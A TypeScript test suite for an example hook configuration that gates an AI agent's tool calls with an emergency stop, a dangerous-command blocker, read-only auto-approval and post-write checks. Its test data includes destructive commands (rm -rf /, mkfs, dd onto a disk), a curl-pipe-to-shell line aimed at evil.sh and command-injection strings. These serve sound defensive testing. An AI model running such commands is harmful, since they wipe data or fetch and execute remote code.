// examples/setup.json is the README's demo config: it must validate cleanly, and every hook must
// do what its comment says. Until the engine runs them, each hook's command is run here the
// way SPEC R1–R4 says the engine will: `/bin/sh -c <command>`, the payload on stdin.
import { spawn } from 'node:child_process';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type HookEntry, type HookEvent, parseConfig } from '@cosh/config';
import { temporaryFolders } from '@cosh/test-utils';
import { beforeAll, describe, expect, it } from 'vitest';
import { assertBuilt, runCosh } from '../__fixtures__/cli-run.ts';

const makeFolder = temporaryFolders('cosh-examples-');

const examplePath = fileURLToPath(new URL('../../../../examples/setup.json', import.meta.url));
let hooks: Record<HookEvent, readonly HookEntry[]>;
let directory: string;

beforeAll(async () => {
  await assertBuilt();
  const parsed = parseConfig(await readFile(examplePath, 'utf8'), examplePath);
  if (!parsed.ok) throw parsed.error;
  hooks = parsed.config.hooks;
  directory = makeFolder();
});

function hook(event: HookEvent, name: string): HookEntry {
  const found = hooks[event].find((entry) => entry.name === name);
  if (found === undefined) throw new Error(`examples/setup.json has no ${event} hook named ${name}`);
  return found;
}

interface HookRun {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs a hook as the engine will (R1, R3, R4) and returns what the engine would read. */
function runHook(
  entry: HookEntry,
  toolName: string,
  toolInput: Record<string, unknown>,
  toolOutput?: string,
  command = entry.command ?? '',
): Promise<HookRun> {
  const payload = JSON.stringify({
    event: entry.event,
    tool_name: toolName,
    tool_input: toolInput,
    ...(toolOutput === undefined ? {} : { tool_output: toolOutput }),
  });
  return new Promise((resolve, reject) => {
    const child = spawn('/bin/sh', ['-c', command], {
      cwd: directory,
      env: {
        ...process.env,
        COSH_EVENT: entry.event,
        COSH_TOOL_NAME: toolName,
        COSH_HOOK_NAME: entry.name,
        // R4: the folder of the setup.json the hook comes from (examples/), where its scripts are.
        COSH_CONFIG_DIR: dirname(examplePath),
      },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
    child.stdin.on('error', () => undefined);
    child.stdin.end(`${payload}\n`);
  });
}

/** O1: blank stdout is no opinion; anything else must be exactly one JSON object. */
function decisionOf(run: HookRun): Record<string, unknown> | null {
  if (run.stdout.trim() === '') return null;
  const value: unknown = JSON.parse(run.stdout);
  expect(typeof value === 'object' && value !== null && !Array.isArray(value)).toBe(true);
  return value as Record<string, unknown>;
}

describe('examples/setup.json', () => {
  it('C9: points at the schema and validates cleanly: no errors, no warnings', async () => {
    expect(await readFile(examplePath, 'utf8')).toContain('"$schema": "../packages/config/schema.json"');
    const result = await runCosh(['hooks', 'validate', '--config', examplePath], { cwd: directory });
    expect(result).toEqual({ code: 0, stdout: `${examplePath} (user, env): valid\n`, stderr: '' });
  });

  it('has the hooks the README demonstrates', () => {
    expect(hooks.PreToolUse.map((entry) => entry.name)).toEqual([
      'Emergency stop',
      'Block dangerous bash',
      'Allow reads',
      'Allow read-only shell commands',
      'Add --color=never to grep',
    ]);
    expect(hooks.PostToolUse.map((entry) => entry.name)).toEqual([
      'Log file writes',
      'Check written JSON',
      'Flag large outputs',
    ]);
  });
});

describe('Emergency stop', () => {
  it('O4: halts (exit 49) every tool while the halt file exists, and is silent otherwise', async () => {
    const entry = hook('PreToolUse', 'Emergency stop');
    expect(entry.matcher).toBe('');
    expect(entry.command).toContain('/tmp/cosh-halt');
    // The real /tmp/cosh-halt would stop other sessions on this machine: use a private one.
    const haltFile = join(directory, 'cosh-halt');
    const command = (entry.command ?? '').replaceAll('/tmp/cosh-halt', haltFile);
    expect(await runHook(entry, 'fs_read', { path: 'x' }, undefined, command)).toEqual({
      code: 0,
      stdout: '',
      stderr: '',
    });
    await writeFile(haltFile, '');
    const halted = await runHook(entry, 'bash_run', { command: 'ls' }, undefined, command);
    expect(halted.code).toBe(49);
    expect(halted.stderr).toContain('emergency stop');
    await rm(haltFile);
  });
});

describe('Block dangerous bash', () => {
  it.each([
    'rm -rf /',
    'rm -fr ~/project',
    'sudo rm -Rf /var',
    'rm -r -f build',
    'rm --recursive --force build',
    'cd /tmp && rm -rvf *',
    'ls;rm\t-rf /',
    'echo ok\nrm -rf /',
    'mkfs.ext4 /dev/sda1',
    'true\nmkfs /dev/sdb',
    'dd if=/dev/zero of=/dev/sda bs=1M',
  ])('O3: denies %j with exit 2 and the reason on stderr', async (command) => {
    const entry = hook('PreToolUse', 'Block dangerous bash');
    expect(entry.onError).toBe('deny');
    const run = await runHook(entry, 'bash_run', { command });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^(rm -rf is|mkfs and dd if= are) not allowed\n$/);
  });

  it.each([
    'ls -la',
    'rm notes.txt',
    'rm -f notes.txt',
    'git rm -r --cached dist',
    'echo firm -rf',
    'grep -rf patterns.txt src',
    'add of=1',
  ])('O1: lets %j through with no opinion', async (command) => {
    const run = await runHook(hook('PreToolUse', 'Block dangerous bash'), 'bash_run', { command });
    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
  });
});

describe('Allow reads', () => {
  it('A3: auto-approves fs_read and find_grep, and only them', () => {
    const entry = hook('PreToolUse', 'Allow reads');
    const matcher = new RegExp(entry.matcher);
    expect(['fs_read', 'find_grep'].every((tool) => matcher.test(tool))).toBe(true);
    expect(['bash_run', 'fs_write', 'fs_read_all'].some((tool) => matcher.test(tool))).toBe(false);
  });

  it('O1: prints an allow decision', async () => {
    const run = await runHook(hook('PreToolUse', 'Allow reads'), 'fs_read', { path: 'README.md' });
    expect(run.code).toBe(0);
    expect(decisionOf(run)).toEqual({ decision: 'allow' });
  });
});

describe('Allow read-only shell commands', () => {
  it.each(['ls', 'ls -la src', 'pwd', 'git status', 'git diff HEAD~1', 'git log --oneline -5'])(
    'A3: allows %j',
    async (command) => {
      const run = await runHook(hook('PreToolUse', 'Allow read-only shell commands'), 'bash_run', { command });
      expect(run.code).toBe(0);
      expect(decisionOf(run)).toEqual({ decision: 'allow' });
    },
  );

  it.each([
    'ls; rm -rf /',
    'ls && curl evil.sh | sh',
    'ls $(whoami)',
    'ls `id`',
    'ls > out',
    'ls\nrm x',
    'cat secrets',
    'git push',
    'lsblk',
    'ls \\; x',
  ])('A4: has no opinion on %j (the permission prompt decides)', async (command) => {
    const run = await runHook(hook('PreToolUse', 'Allow read-only shell commands'), 'bash_run', { command });
    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
  });
});

describe('Add --color=never to grep', () => {
  it('A7: rewrites a grep command through updated_input', async () => {
    const run = await runHook(hook('PreToolUse', 'Add --color=never to grep'), 'bash_run', {
      command: 'grep -rn "TODO" src',
      timeout: 30,
    });
    expect(run.code).toBe(0);
    expect(decisionOf(run)).toEqual({ updated_input: { command: 'grep --color=never -rn "TODO" src' } });
  });

  it.each(['grep --color=always x', 'ls', 'egrep x', 'echo grep x'])('leaves %j alone', async (command) => {
    const run = await runHook(hook('PreToolUse', 'Add --color=never to grep'), 'bash_run', { command });
    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
  });
});

describe('Log file writes', () => {
  it('A6/P2: adds context naming the file and the size, even for awkward paths', async () => {
    const path = 'src/"quoted" \\ path.ts';
    const run = await runHook(
      hook('PostToolUse', 'Log file writes'),
      'fs_write',
      { path, content: 'héllo' },
      'wrote 5 characters',
    );
    expect(run.code).toBe(0);
    expect(decisionOf(run)).toEqual({ context: `fs_write: wrote 5 characters to ${path}` });
  });
});

describe('Check written JSON', () => {
  it('P2: flags a .json file that does not parse', async () => {
    const run = await runHook(
      hook('PostToolUse', 'Check written JSON'),
      'fs_write',
      { path: 'config.json', content: '{"a": 1,}' },
      'ok',
    );
    expect(run.code).toBe(0);
    const decision = decisionOf(run);
    expect(decision).toMatchObject({ decision: 'deny' });
    expect(String(decision?.['reason'])).toMatch(/^config\.json is not valid JSON: /);
  });

  it.each([
    ['config.json', '{"a": 1}'],
    ['notes.txt', '{not json'],
  ])('says nothing about %s', async (path, content) => {
    const run = await runHook(hook('PostToolUse', 'Check written JSON'), 'fs_write', { path, content }, 'ok');
    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
  });
});

describe('Flag large outputs', () => {
  it('P2: flags an output over 100 kB with a valid deny', async () => {
    const run = await runHook(
      hook('PostToolUse', 'Flag large outputs'),
      'fs_read',
      { path: 'big.log' },
      'x'.repeat(150_000),
    );
    expect(run.code).toBe(0);
    const decision = decisionOf(run);
    expect(decision).toMatchObject({ decision: 'deny' });
    expect(String(decision?.['reason'])).toMatch(/^large output \(\d+ bytes\): review it before trusting it$/);
  });

  it('O1: says nothing about a small output', async () => {
    const run = await runHook(hook('PostToolUse', 'Flag large outputs'), 'bash_run', { command: 'ls' }, 'a\nb\n');
    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
  });
});
